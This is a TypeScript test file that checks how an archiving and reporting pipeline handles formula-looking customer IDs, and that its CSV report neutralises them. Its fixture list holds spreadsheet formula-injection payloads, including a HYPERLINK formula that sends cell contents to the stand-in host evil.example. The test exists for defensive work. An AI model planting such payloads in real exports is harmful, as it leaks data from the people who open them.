// Formula-looking text through the whole archive path: the meter bundle's nightly export file,
// `npm run archive` on it, the Parquet values, and `npm run report -- … --format csv`.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { lit, openDuck } from '../../archive/duck';
import { restoreText } from '../../schema/csv-cell';
import { CSV_HEADER, eventToCsvLine, normalizeEvent } from '../../schema/event-record';
import { FORMULA_START, parseCsv } from '../meter/csv';
import { FakePlatform, callJson, loadBundle } from '../meter/fakes/platform';

const root = join(import.meta.dirname, '..', '..');
const npm = (args: string[]) =>
  execFileSync('npm', ['run', '-s', ...args], { cwd: root, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });

/** customer_ids a caller might send: formulas (also behind whitespace), a leading apostrophe of its own, a lone mark, plain text. */
const CUSTOMERS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"invoice")',
  '+SUM(1,2)',
  '@cmd',
  '-1',
  '\tx',
  ' =1+1',
  '\u00a0-2',
  "'quoted",
  "''",
  "'",
  'plain',
];
/** As stored: ingest turns control characters (the tab) into spaces. */
const STORED = CUSTOMERS.map((c) => c.replace(/\t/g, ' '));

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'formula-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** The nightly export file of a meter that ingested one event per customer_id. */
function nightlyExport(): string {
  const platform = new FakePlatform();
  platform.clock.set('2026-11-21T15:00:00Z');
  const meter = loadBundle(platform);
  meter.setup();
  platform.properties.setProperty('SECRET_TOKEN', 't');
  const events = CUSTOMERS.map((customer_id, i) => ({
    event_id: `e${i}`,
    timestamp: '2026-11-21T10:00:00Z',
    customer_id,
    model: customer_id,
    cost_usd: i,
  }));
  expect(callJson(meter, 'doPost', { token: 't' }, { events })).toMatchObject({ ok: true, appended: CUSTOMERS.length });
  platform.clock.set('2026-11-22T01:00:00Z');
  meter.exportArchive();
  const [file] = platform.drive.folders[0].files;
  const path = join(dir, file.name);
  writeFileSync(path, file.content);
  return path;
}

async function parquetText(archive: string): Promise<Array<{ event_id: string; customer_id: string; model: string }>> {
  const duck = await openDuck();
  try {
    return await duck.all(`SELECT event_id, customer_id, model FROM read_parquet(${lit(join(archive, '*.parquet'))}) ORDER BY cost_usd`);
  } finally {
    duck.close();
  }
}

describe('formula-looking text through the archive', () => {
  it('npm run archive on the nightly export stores exactly the text that was sent', async () => {
    const file = nightlyExport();
    const out = join(dir, 'arch');
    npm(['archive', '--', file, '--out', out]);
    const rows = await parquetText(out);
    expect(rows.map((r) => r.customer_id)).toEqual(STORED);
    expect(rows.map((r) => r.model)).toEqual(STORED);
  });

  it("npm run archive on the gateway's own CSV stores exactly the text that was sent", async () => {
    const now = () => new Date('2026-11-21T12:00:00Z');
    const lines = CUSTOMERS.map((customer_id, i) =>
      eventToCsvLine(normalizeEvent({ event_id: `-g${i}`, customer_id, model: customer_id, cost_usd: i }, { now, uuid: () => 'u' })),
    );
    const file = join(dir, 'events.csv');
    writeFileSync(file, [CSV_HEADER, ...lines].join('\n') + '\n');
    const out = join(dir, 'arch');
    npm(['archive', '--', file, '--out', out]);
    const rows = await parquetText(out);
    expect(rows.map((r) => r.customer_id)).toEqual(STORED);
    expect(rows.map((r) => r.event_id)).toEqual(CUSTOMERS.map((_, i) => `-g${i}`));
  });

  it('npm run report -- customers --format csv neutralises the same cells', () => {
    const out = join(dir, 'arch');
    npm(['archive', '--', nightlyExport(), '--out', out]);
    const csv = npm(['report', '--', 'customers', '--archive', out, '--format', 'csv', '--as-of', '2026-11-21']);
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(['customer_id', 'cost_usd', 'calls', 'unpriced_calls']);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    expect(rows.map((r) => restoreText(r[0])).sort()).toEqual([...STORED].sort());
  });
});
